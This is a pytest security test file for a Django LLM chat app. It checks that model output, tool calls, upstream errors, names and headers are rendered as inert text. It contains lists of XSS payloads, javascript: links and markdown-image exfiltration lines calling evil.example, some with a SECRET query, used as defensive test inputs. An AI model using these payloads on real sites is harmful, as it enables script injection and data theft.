"""What a model, an upstream or a person writes is text in every page and every frame, at every moment."""

from html.parser import HTMLParser

import pytest

from apps.catalog import catalog
from apps.conversations.models import Conversation
from tests.people import HTMX
from tests.reader import Page
from tests.waiting import until

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = "<img src=x onerror=alert(1)>"
QUOTED = '"><script>alert(2)</script>'
MARKUP = [
    "<script>alert(1)</script>",
    EVIL,
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "<div hx-get=/accounts/logout/ hx-trigger=load>x</div>",
    "<button hx-on:click=alert(1)>x</button>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<a id=csrfmiddlewaretoken name=config href=x>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt:alert(1))",
    "[c](java\tscript:alert(1))",
    "[d](&#106;avascript:alert(1))",
    "[e](data:text/html,<script>alert(1)</script>)",
    "[f](vbscript:x)",
    "[g](file:///etc/passwd)",
    "[h](intent:x)",
    "[i](ms-msdt:/id)",
    "[j](//evil.example)",
    "[k](\\\\evil.example)",
    "<javascript:alert(1)>",
    '[l](https://ok.example "t\\" onmouseover=alert(1) x=")',
    "[m]: javascript:alert(1)\n\n[m]",
]
IMAGES = [
    "![a](https://evil.example/?q=SECRET)",
    "![b][r]\n\n[r]: https://evil.example/r.png",
    "[![c](https://evil.example/c.png)](https://ok.example)",
    "<img src=https://evil.example/d.png>",
    "<picture><source srcset=https://evil.example/e.png></picture>",
    "<video poster=https://evil.example/f.png>",
    '```"><img src=https://evil.example/g.png>\ncode\n```',
    "![h](data:image/svg+xml,<svg/onload=alert(1)>)",
]


class Tags(HTMLParser):
    """The elements of a page: [(tag, attributes)]."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, dict(attributes)))


def harmless(html, where, page=False):
    """Fails where the HTML holds anything but text, its own markup, and links that may live."""
    for tag, attributes in Tags(html).found:
        at = f"<{tag} {attributes}> in {where}"
        assert tag not in ("iframe", "object", "embed", "style", "base", "video", "audio", "source", "picture", "frame"), at
        assert tag != "img" or attributes.get("src", "").startswith("/static/"), at
        assert tag != "script" or (page and "nonce" in attributes), at
        assert not [name for name in attributes if name.startswith("on")], at
        assert "style" not in attributes and "srcdoc" not in attributes and "ping" not in attributes, at
        for name in ("href", "src", "action", "formaction", "hx-get", "hx-post"):
            value = (attributes.get(name) or "").strip().lower()
            own = value.startswith(("/", "#")) and not value.startswith(("//", "/\\"))
            assert not value or own or (name == "href" and value.startswith(("http://", "https://", "mailto:"))), at
            assert "logout" not in value or page, at
        if tag == "a" and (attributes.get("href") or "").startswith("http"):
            assert {"noopener", "noreferrer"} <= set(attributes["rel"].split()), at
        assert tag not in ("link", "meta") or page, at


def pieces_of(text):
    """Cut so that no tag arrives in one piece."""
    return [text[start : start + 3] for start in range(0, len(text), 3)]


@pytest.mark.parametrize("payloads", [MARKUP, LINKS, IMAGES], ids=["markup", "links", "images"])
def test_what_streams_is_text_at_every_moment_and_for_ever(server, alice, payloads):
    text = "\n\n".join(payloads)
    server.upstream.says(pieces_of(text), reasoning=pieces_of(text), rate=3000)
    message = alice.ask(text)
    with alice.socket() as socket:
        page = Page(f"message:{message.pk}")
        socket.socket.send(page.ask())
        while not page.over:
            page.receive(socket.read())
            # Blocks are HTML; the tail, the reasoning and the status are set as text by the page.
            harmless(page.blocks, "a frame")
    harmless(page.final, "the last frame")
    assert alice.finish(message).text == text
    for path in (f"/c/{message.conversation_id}/", "/", "/palette/"):
        harmless(alice.get(path).text, path, page=True)
    for path in (f"/messages/{message.pk}/details/", "/conversations/", f"/c/{message.conversation_id}/log/"):
        harmless(alice.get(path, headers=HTMX).text, path)
    source = alice.get(f"/messages/{message.pk}/source/")
    assert (source.text, source.headers["content-type"]) == (text, "text/plain; charset=utf-8")
    assert source.headers["x-content-type-options"] == "nosniff"


def test_code_and_its_language_are_text(server, alice):
    server.upstream.says('```js"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```\n\n`<b>`', hang=True)
    message = alice.ask()
    with alice.socket() as socket:
        socket.watch(f"message:{message.pk}")
        socket.until(lambda frame: "script" in str(frame))
        server.upstream.resumes()
        harmless(socket.until_final()["final"], "code")
        harmless(str(socket.frames[0].get("snapshot", {}).get("blocks", "")), "the first frame")


def everywhere(person, message, *hidden):
    """Each page and part that shows this message is harmless, and ``hidden`` stands in it as text only."""
    for path, how in [(f"/c/{message.conversation_id}/", {}), (f"/messages/{message.pk}/details/", {"headers": HTMX})]:
        html = person.get(path, **how).text
        harmless(html, path, page=not how)
        for words in hidden:
            assert words not in html, path


def test_fields_of_an_answer_are_text(server, alice):
    """The model that answered, the fingerprint, ids, finish reason and usage: all as the upstream gave them."""
    chunk = (
        b'data: {"id":"%(e)b","model":"%(e)b","system_fingerprint":"%(e)b","choices":[{"index":0,"delta":{"content":"Hi"},'
        b'"finish_reason":"%(e)b"}],"x_groq":{"id":"%(e)b","usage":{"prompt_tokens":1,"queue_time":"%(e)b","%(e)b":"%(e)b"}}}\n\n'
    ) % {b"e": EVIL.encode()}
    server.upstream.sends(chunk, b"data: [DONE]\n\n")
    message = alice.finish(alice.ask())
    assert message.run.answered_by == EVIL
    everywhere(alice, message, EVIL)
    assert "&lt;img src=x onerror=alert(1)&gt;" in alice.get(f"/c/{message.conversation_id}/").text


def test_tool_calls_are_text(server, alice):
    call = {"id": EVIL, "name": EVIL, "arguments": QUOTED + EVIL}
    server.upstream.says("", tool_calls=[call], finish="tool_calls")
    message = alice.finish(alice.ask())
    assert message.tool_calls[0]["function"]["name"] == EVIL
    everywhere(alice, message, EVIL, QUOTED)


@pytest.mark.parametrize("status", [400, 422, 404, 401, 429])
def test_refusals_are_text(server, alice, status):
    server.upstream.refuses(
        status,
        EVIL + QUOTED,
        code=EVIL,
        param=QUOTED,
        failed_generation=EVIL,
        headers={"retry-after": "600", "x-request-id": EVIL},
    )
    message = alice.finish(alice.ask())
    everywhere(alice, message, EVIL, QUOTED)
    assert message.run.error["message"] in (EVIL + QUOTED, (EVIL + QUOTED)[:2000])
    harmless(alice.get("/settings/").text, "settings", page=True)


@pytest.mark.parametrize("how", [{"body": f"<html>{EVIL}</html>"}, {"code": EVIL, "headers": {"x-request-id": EVIL}}])
def test_a_list_of_models_that_is_refused_is_text(server, alice, how):
    catalog.forget()
    server.upstream.refuses(500, EVIL + QUOTED, path="/openai/v1/models", times=20, **how)
    alice.get("/models/options/", headers=HTMX)
    told = until(lambda: "unread" in (text := alice.get("/models/options/", headers=HTMX).text) and text)
    refused = alice.send("Hello", model="")
    assert refused.status_code == 422
    for html, page in ((told, False), (refused.text, False), (alice.get("/").text, True)):
        harmless(html, "a list that could not be read", page=page)
        assert EVIL not in html and QUOTED not in html


def test_what_is_told_while_waiting_is_text(server, alice):
    server.upstream.refuses(429, EVIL, headers={"retry-after": "30"})
    message = alice.ask()
    with alice.socket() as socket:
        socket.watch(f"message:{message.pk}")
        told = socket.until(lambda frame: (frame.get("snapshot") or frame).get("status", {}).get("retry"))
        # The page sets it as text; in the frame it is a string of JSON.
        assert (told.get("snapshot") or told)["status"]["reason"] == EVIL
    alice.post(f"/c/{message.conversation_id}/stop/")
    everywhere(alice, alice.finish(message), EVIL)


def test_names_are_text(server, alice, bob):
    """Of models, people, teams and conversations, in lists, titles, options and palettes."""
    name = f"</title>{QUOTED}{{{{7*7}}}}{{% debug %}}"
    server.upstream.models.append({**server.upstream.models[0], "id": EVIL + QUOTED})
    alice.http.post("/settings/", data={"name": name[:80], "email": "alice@example.org"})
    message = alice.finish(alice.ask(name, model=EVIL + QUOTED, system=name, stop=EVIL))
    conversation = message.conversation_id
    alice.post(f"/c/{conversation}/rename/", {"title": name})
    team = Conversation.objects.get(pk=conversation).team
    team.name = name[:80]
    team.save()
    alice.get("/models/options/")
    for path in (f"/c/{conversation}/", "/", "/settings/", f"/?q={QUOTED}", "/accounts/logout/", "/nothing<script>"):
        html = bob.get(path).text
        harmless(html, path, page=True)
        assert QUOTED not in html and EVIL not in html, path
    for path in ("/models/options/?model=" + EVIL, "/palette/?q=title", "/conversations/?q=" + EVIL, "/conversations/?whose=team"):
        html = bob.get(path, headers=HTMX).text
        harmless(html, path)
        assert QUOTED not in html and EVIL not in html, path
    everywhere(bob, message, EVIL, QUOTED)


def test_what_a_browser_says_of_itself_is_not_repeated(server, alice):
    headers = {"User-Agent": EVIL, "Referer": f"http://x/{EVIL}", "Accept-Language": EVIL, "HX-Current-URL": f"{server.url}/{EVIL}"}
    for path in ("/", "/nothing", "/settings/"):
        assert EVIL not in alice.get(path, headers=headers).text
    assert alice.http.get("/conversations/", headers={**headers, **HTMX}).status_code == 200
